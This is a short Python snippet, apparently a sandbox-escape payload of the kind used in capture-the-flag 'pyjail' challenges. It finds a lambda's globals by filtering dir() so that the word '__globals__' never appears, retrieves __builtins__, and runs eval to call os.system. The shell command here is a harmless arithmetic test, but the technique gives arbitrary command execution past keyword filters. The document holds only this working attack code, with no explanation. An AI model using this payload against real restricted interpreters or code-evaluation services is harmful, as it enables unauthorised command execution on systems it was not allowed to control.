k=[x for x in dir(lambda:0) if "glob" in x][0]
g=getattr((lambda:0),k)
list(g.values())[[*g].index("__builtins__")].eval("__import__('os').system('expr 40 + 1001')")
